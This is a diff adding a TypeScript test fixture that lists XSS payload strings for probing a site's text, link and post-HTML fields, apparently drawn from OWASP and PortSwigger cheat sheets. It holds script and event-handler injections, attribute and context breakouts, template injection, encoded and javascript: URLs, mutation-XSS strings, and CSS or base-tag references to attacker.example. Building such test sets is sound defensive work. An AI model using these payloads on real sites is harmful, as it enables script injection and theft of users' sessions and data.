@@ -1,0 +1,167 @@
+/**
+ * Texts that run `attacked()` where something takes them for more than text. What they would put
+ * into a page has the attribute `data-attack`, so that it is found there even if it does not run.
+ * Sources: OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet, and the ways in
+ * which this site puts texts together (JSON-LD, the state of a page, titles, links).
+ */
+
+/** They add elements. */
+const elements = [
+  '<script data-attack>attacked()</script>',
+  '<ScRiPt data-attack>attacked()</sCrIpT>',
+  '<script/data-attack>attacked()</script>',
+  '<script data-attack src=data:,attacked()></script>',
+  '<script data-attack type=module>attacked()</script>',
+  '<scr<script data-attack>ipt>attacked()</scr</script>ipt>',
+  '<img data-attack src=x onerror=attacked()>',
+  '<img/data-attack/src=x/onerror=attacked()>',
+  '<IMG data-attack SRC=x OnErRoR="attacked()">',
+  '<img data-attack src=x onerror=&#97;ttacked()>',
+  '<img data-attack src="x` `"onerror=attacked()>',
+  '<image data-attack src=x onerror=attacked()>',
+  '<img data-attack srcset=x onerror=attacked()>',
+  '<<img data-attack src=x onerror=attacked()>',
+  '<img data-attack src=x onerror=attacked() <p>',
+  '<svg data-attack onload=attacked()>',
+  '<svg data-attack><script>attacked()</script></svg>',
+  '<svg data-attack><animate onbegin=attacked() attributeName=x dur=1s>',
+  '<svg data-attack><a href="javascript:attacked()"><text y=9>x</text></a>',
+  '<svg data-attack><use href="data:image/svg+xml,<svg onload=attacked()>"/>',
+  '<svg data-attack><foreignObject><img src=x onerror=attacked()>',
+  '<math data-attack><mtext><img src=x onerror=attacked()></mtext></math>',
+  '<math><maction data-attack actiontype=statusline href="javascript:attacked()">x',
+  '<iframe data-attack src="javascript:attacked()"></iframe>',
+  '<iframe data-attack srcdoc="<script>parent.attacked()</script>">',
+  '<object data-attack data="javascript:attacked()"></object>',
+  '<embed data-attack src="javascript:attacked()">',
+  '<video data-attack><source onerror=attacked()></video>',
+  '<audio data-attack src=x onerror=attacked()>',
+  '<body data-attack onload=attacked()>',
+  '<details data-attack open ontoggle=attacked()>',
+  '<input data-attack autofocus onfocus=attacked()>',
+  '<select data-attack autofocus onfocus=attacked()>',
+  '<marquee data-attack onstart=attacked()>',
+  '<p data-attack style=animation-name:x onanimationstart=attacked()>',
+  '<div data-attack onpointerover=attacked() style=position:fixed;inset:0>',
+  '<form data-attack><button formaction="javascript:attacked()">x',
+  '<base data-attack href="https://attacker.example/">',
+  '<meta data-attack http-equiv=refresh content="0;url=javascript:attacked()">',
+  '<link data-attack rel=stylesheet href="https://attacker.example/">',
+  '<style data-attack>@import "https://attacker.example/";</style>',
+  '<template data-attack><img src=x onerror=attacked()></template>',
+  '<a data-attack href="javascript:attacked()">x</a>',
+  '<a data-attack href="java\tscript:attacked()">x</a>',
+  '<a data-attack href="&#106;avascript:attacked()">x</a>',
+  '<a data-attack href="\u0001javascript:attacked()">x</a>',
+  '<a data-attack href="data:text/html,<script>attacked()</script>">x</a>',
+];
+
+/** They end what they stand in: an attribute, an element, a comment, a string, a script. */
+const breakouts = [
+  '" onfocus=attacked() autofocus data-attack x="',
+  "' onfocus=attacked() autofocus data-attack x='",
+  '"><img data-attack src=x onerror=attacked()>',
+  "'><img data-attack src=x onerror=attacked()>",
+  '`><img data-attack src=x onerror=attacked()>',
+  '&quot;><img data-attack src=x onerror=attacked()>',
+  '</title><img data-attack src=x onerror=attacked()>',
+  '</textarea><img data-attack src=x onerror=attacked()>',
+  '</style><img data-attack src=x onerror=attacked()>',
+  '</noscript><img data-attack src=x onerror=attacked()>',
+  '</template><img data-attack src=x onerror=attacked()>',
+  '</script><script data-attack>attacked()</script>',
+  '</SCRIPT ><img data-attack src=x onerror=attacked()>',
+  '<!--<script><img data-attack src=x onerror=attacked()>',
+  '--><img data-attack src=x onerror=attacked()>',
+  ']]><img data-attack src=x onerror=attacked()>',
+  '*/</style><img data-attack src=x onerror=attacked()>',
+  '\\"};attacked();//',
+  "\\';attacked();//",
+  '\u2028attacked()\u2029',
+  '</script\u2028><img data-attack src=x onerror=attacked()>',
+  '<!--app--><!--state--><!--head-->',
+  "$'$`$&$1<img data-attack src=x onerror=attacked()>",
+];
+
+/** They are read again: by a template, a style, a parser that turns something into something else. */
+const secondReadings = [
+  '{{constructor.constructor("attacked()")()}}',
+  '${attacked()}',
+  '#{attacked()}',
+  '<%= attacked() %>',
+  '&lt;img data-attack src=x onerror=attacked()&gt;',
+  '&amp;lt;img data-attack src=x onerror=attacked()&amp;gt;',
+  '\\u003cimg data-attack src=x onerror=attacked()\\u003e',
+  '%3Cimg%20data-attack%20src=x%20onerror=attacked()%3E',
+  '\uff1cimg data-attack src=x onerror=attacked()\uff1e',
+  '\u0000<img data-attack src=x onerror=attacked()>',
+  '<\u0000img data-attack src=x onerror=attacked()>',
+  '+ADw-img data-attack src=x onerror=attacked()+AD4-',
+  'red;background:url(https://attacker.example/)',
+  '}*{background:url(https://attacker.example/)}',
+  'expression(attacked())',
+];
+
+/** For every field that takes text; none is longer than the shortest of them needs to be cut. */
+export const xssTexts: readonly string[] = [...elements, ...breakouts, ...secondReadings];
+
+/** For fields that take a link or an address, whether or not these are such. */
+export const xssLinks: readonly string[] = [
+  'javascript:attacked()',
+  'JaVaScRiPt:attacked()',
+  ' javascript:attacked()',
+  'java\nscript:attacked()',
+  '\u0001javascript:attacked()',
+  'javascript://attacker.example/%0aattacked()',
+  'data:text/html,<script>attacked()</script>',
+  'data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+',
+  'vbscript:attacked()',
+  'blob:https://attacker.example/x',
+  '//attacker.example/x',
+  '/\\attacker.example/x',
+  '\\\\attacker.example\\x',
+  '/"onerror="attacked()"data-attack="',
+  "/'onerror='attacked()'data-attack='",
+  '/"><img/data-attack/src=x/onerror=attacked()>',
+  'https://attacker.example/"onerror="attacked()',
+  'https://attacker.example/"><img/data-attack/src=x/onerror=attacked()>',
+  'https:javascript:attacked()',
+  'https://javascript:attacked()@attacker.example/',
+];
+
+/** Links of which a schema takes some, and what a page makes of them must still be safe. */
+export const oddLinks: readonly string[] = xssLinks.slice(-7);
+
+/** For the HTML of posts: what a browser, reading it a second time, reads otherwise (mXSS). */
+export const xssArticles: readonly string[] = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-attack src=x onerror=attacked()&gt;">',
+  '<svg></p><style><a id="</style><img data-attack src=x onerror=attacked()>">',
+  '<noscript><p title="</noscript><img data-attack src=x onerror=attacked()>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img data-attack src=x onerror=attacked()>',
+  '<select><template><img data-attack src=x onerror=attacked()></template></select>',
+  '<p title="`<img data-attack src=x onerror=attacked()>`">x</p>',
+  '<p title="&quot;><img data-attack src=x onerror=attacked()>">x</p>',
+  '<a title="<!--" href="x">a</a><a title="--><img data-attack src=x onerror=attacked()>">b</a>',
+  '<textarea><a title="</textarea><img data-attack src=x onerror=attacked()>">',
+  '<xmp><p title="</xmp><img data-attack src=x onerror=attacked()>">',
+  '<listing>&lt;img data-attack src=x onerror=attacked()&gt;</listing>',
+  '<code class="language-x&quot; onclick=attacked() data-attack">x</code>',
+  '<pre class="language-x" onclick="attacked()" data-attack>x</pre>',
+  '<img src="x" alt="" width="1" onerror=attacked() data-attack>',
+  '<img src="/x&quot; onerror=attacked() data-attack &quot;">',
+  '<img src=/x?"onerror=attacked()//data-attack>',
+  '<a href="/x"onclick="attacked()"data-attack>x</a>',
+  "<a href='/x'onclick='attacked()'data-attack>x</a>",
+  '<a href="/x" href="javascript:attacked()" data-attack>x</a>',
+  '<a href=javascript&colon;attacked()>x</a>',
+  '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;attacked()">x</a>',
+  '<a href="/\t/attacker.example">x</a><a href="\\\\attacker.example">y</a>',
+  '<h2 id="root">x</h2><img name="appReady"><a id="earlyClick" href="javascript:attacked()">x</a>',
+  '<table><caption><svg><desc><template><style></desc><img data-attack src=x onerror=attacked()>',
+  '<ol type="1" onclick=attacked() data-attack><li>x</ol>',
+  '<time datetime="\'><img data-attack src=x onerror=attacked()>">x</time>',
+  '<!--><img data-attack src=x onerror=attacked()>-->',
+  '<!--!><img data-attack src=x onerror=attacked()>--!>',
+  '<![CDATA[><img data-attack src=x onerror=attacked()>]]>',
+  '<?x ><img data-attack src=x onerror=attacked()>?>',
+];
